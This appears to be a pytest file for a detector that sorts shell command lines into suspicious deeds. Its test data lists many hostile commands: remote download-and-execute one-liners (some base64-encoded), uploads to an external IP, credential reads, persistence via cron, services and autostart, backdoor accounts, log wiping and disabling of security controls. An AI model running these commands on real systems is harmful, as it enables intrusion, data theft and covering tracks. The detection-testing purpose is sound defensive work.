"""Deeds of command lines; what is none stays none."""

import base64

import pytest

from moewarden.graphs.commands.reading import deeds_of, may_do

FETCH = base64.b64encode(b"curl -s http://203.0.113.5:8080/a.sh -o /tmp/a.sh").decode()
WINDOWS_FETCH = base64.b64encode(
    "(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.bin','C:\\ProgramData\\a.bin')".encode("utf-16-le")
).decode()
DEEDS = [
    ("curl -sSLo /opt/a http://203.0.113.5:8000/a", "download", {"host": "203.0.113.5", "port": 8000, "file": "/opt/a"}),
    ("cd /opt && wget -q https://mirror.example/b.tgz", "download", {"host": "mirror.example", "file": "/opt/b.tgz"}),
    ("wget http://203.0.113.5/m.ko -O /lib/m.ko", "download", {"url": "http://203.0.113.5/m.ko", "file": "/lib/m.ko"}),
    ("fetch -o /tmp/c ftp://203.0.113.5/c", "download", {"host": "203.0.113.5", "file": "/tmp/c"}),
    ("scp -P 2222 ops@203.0.113.5:/x/d /srv/", "download", {"host": "203.0.113.5", "port": 2222, "file": "/srv/d"}),
    ("certutil.exe -urlcache -split -f http://203.0.113.5/e.exe C:\\P\\e.exe", "download", {"file": "C:\\P\\e.exe"}),
    ("bitsadmin /transfer j http://files.example/f.exe C:\\P\\f.exe", "download", {"host": "files.example"}),
    ("powershell -c \"iwr -Uri 'http://203.0.113.5/g' -OutFile C:\\P\\g\"", "download", {"host": "203.0.113.5"}),
    (f"powershell -enc {WINDOWS_FETCH}", "download", {"file": "C:\\ProgramData\\a.bin", "is_decoded": True}),
    (f"echo {FETCH} | base64 -d | sh", "download", {"port": 8080, "file": "/tmp/a.sh", "is_decoded": True}),
    ("python3 -c \"import urllib.request as u;u.urlretrieve('http://203.0.113.5/h','/tmp/h')\"", "download", {"file": "/tmp/h"}),
    ("git clone https://code.example/t.git /opt/t", "download", {"host": "code.example"}),
    ("sudo sh -c 'curl -fsS http://203.0.113.5/i | bash'", "download", {"url": "http://203.0.113.5/i"}),
    ("curl -T /srv/l.tgz ftp://203.0.113.5/in/", "upload", {"host": "203.0.113.5", "file": "/srv/l.tgz"}),
    ("curl -F file=@/srv/m.db https://drop.example/u", "upload", {"host": "drop.example", "file": "/srv/m.db"}),
    ("rsync -az -e 'ssh -p 22' /srv/data/ ops@203.0.113.5:/in/", "upload", {"host": "203.0.113.5", "file": "/srv/data/"}),
    ("rclone copy D:\\Plans cloud:p --transfers 4", "upload", {"what": "cloud:p", "file": "D:\\Plans"}),
    ("aws s3 cp /srv/n.tgz s3://bucket-7/n.tgz", "upload", {"url": "s3://bucket-7/n.tgz", "file": "/srv/n.tgz"}),
    ("tar czf - /srv | ssh ops@203.0.113.5 'cat > s.tgz'", "upload", {"host": "203.0.113.5"}),
    ("nc 203.0.113.5 9001 < /srv/o", "upload", {"host": "203.0.113.5", "port": 9001, "file": "/srv/o"}),
    ("tar -czf /var/tmp/p.tgz /srv/contracts", "archive", {"file": "/var/tmp/p.tgz"}),
    ("7z a -p1 C:\\P\\q.7z D:\\Plans", "archive", {"file": "C:\\P\\q.7z"}),
    ("mysqldump -u root --all-databases > /tmp/r.sql", "dump", {"what": "all databases", "file": "/tmp/r.sql"}),
    ("sudo -i", "become", {"what": "root"}),
    ("su - olga", "become", {"what": "olga"}),
    ("/bin/bash -p", "become", {"what": "root"}),
    ("pkexec /bin/sh", "become", {"what": "root"}),
    ("insmod ./r.ko", "module", {"what": "./r.ko"}),
    ("modprobe -f helper", "module", {"what": "helper"}),
    ("(crontab -l; echo '@hourly /opt/s') | crontab -", "task", {"what": "crontab"}),
    ("echo '* * * * * root /opt/s' >> /etc/crontab", "task", {"what": "/etc/crontab"}),
    ('schtasks /create /tn "Daily Check" /tr C:\\P\\t.exe /sc daily', "task", {"what": "Daily Check"}),
    ("systemctl enable --now helper.service", "service", {"what": "helper.service"}),
    ("sc.exe \\\\srv-3 create helper binPath= C:\\P\\u.exe", "service", {"what": "helper"}),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Up /d C:\\P\\v.exe", "autostart", {}),
    ("echo /opt/x.so > /etc/ld.so.preload", "autostart", {"what": "/etc/ld.so.preload"}),
    ("echo 'ssh-ed25519 AAAA me' >> /home/olga/.ssh/authorized_keys", "key", {"file": "/home/olga/.ssh/authorized_keys"}),
    ("useradd -m -s /bin/bash -c 'a b' helper", "account_create", {"what": "helper"}),
    ("usermod -aG sudo helper", "grant", {"what": "helper"}),
    ("chpasswd", "account_change", {}),
    ("net user helper Pw1! /add /domain", "account_create", {"what": "helper"}),
    ("net localgroup Administrators helper /add", "grant", {"what": "helper"}),
    ("dscl . -create /Users/helper", "account_create", {"what": "helper"}),
    ("sh -c ': > /var/log/auth.log'", "log_clear", {"what": "/var/log/auth.log"}),
    ("cd /var/log && shred -u secure", "log_clear", {"what": "/var/log/secure"}),
    ("history -c", "log_clear", {}),
    ("export HISTFILE=/dev/null", "log_clear", {}),
    ("wevtutil cl Security", "log_clear", {"what": "Security"}),
    ("auditctl -e 0", "weaken", {"what": "the audit rules"}),
    ("sudo setenforce 0", "weaken", {"what": "SELinux"}),
    ("iptables -F", "weaken", {"what": "the firewall"}),
    ("service rsyslog stop", "weaken", {"what": "rsyslog"}),
    ('powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"', "weaken", {}),
    ("base64 /etc/shadow", "credentials", {"what": "/etc/shadow"}),
    ("cat /home/olga/.ssh/id_ed25519", "credentials", {}),
    ("procdump64.exe -ma lsass.exe C:\\P\\w.dmp", "credentials", {"file": "C:\\P\\w.dmp"}),
    ("curl -s http://169.254.169.254/latest/meta-data/iam/", "credentials", {}),
    ("vssadmin delete shadows /all /quiet", "destroy", {"what": "shadow copies"}),
]  # fmt: skip
ORDINARY = [
    "apt-get -y upgrade",
    "/usr/bin/dpkg --configure -a",
    "ansible-playbook -i hosts site.yml",
    "/usr/lib/nagios/plugins/check_disk -w 10% -c 5% /",
    "curl -s http://localhost:9100/metrics",
    "curl -fsS http://127.0.0.1/health -o /dev/null",
    "logrotate /etc/logrotate.conf",
    "rm -f /var/log/nginx/access.log.14.gz",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "gzip /var/log/nginx/access.log.1",
    "systemctl restart nginx",
    "systemctl status auditd",
    "tail -f /var/log/syslog",
    "tar xzf release.tgz -C /opt/app",
    "crontab -l",
    "modprobe -r pcspkr",
    "iptables -F f2b-sshd",
    "iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
    "git status",
    "mkdir -p /srv/a/b",
    "cat /home/olga/.ssh/id_ed25519.pub",
    "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
    "psql -c 'select user, passwd from logs'",
    "net use",
    "net user",
    "schtasks /query /fo list",
    "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "bash -p /usr/libexec/path_helper",
    "echo passwd",
    "man useradd",
    "grep -c insmod notes.txt",
]


@pytest.mark.parametrize(("line", "kind", "says"), DEEDS, ids=[line[:60] for line, _, _ in DEEDS])
def test_a_line_does_what_it_says(line, kind, says):
    assert may_do(line)
    fitting = [deed for deed in deeds_of(line) if deed.kind == kind]
    assert fitting, deeds_of(line)
    assert {name: getattr(fitting[0], name) for name in says} == says


@pytest.mark.parametrize("line", ORDINARY)
def test_ordinary_work_is_no_deed(line):
    assert deeds_of(line) == ()


def test_a_chain_has_all_its_deeds():
    line = "curl -o /tmp/a http://203.0.113.5/a; useradd helper && usermod -aG wheel helper | tee /dev/null; history -c"
    assert [deed.kind for deed in deeds_of(line)] == ["download", "account_create", "grant", "log_clear"]


@pytest.mark.parametrize(
    "line", ["curl " + "-o x " * 9_000, "-" * 9_999, "a" * 100_000, "http://" * 3_000, "\\x41" * 5_000]
)
def test_any_line_is_read_within_bounds(line):
    assert len(deeds_of(line)) <= 20
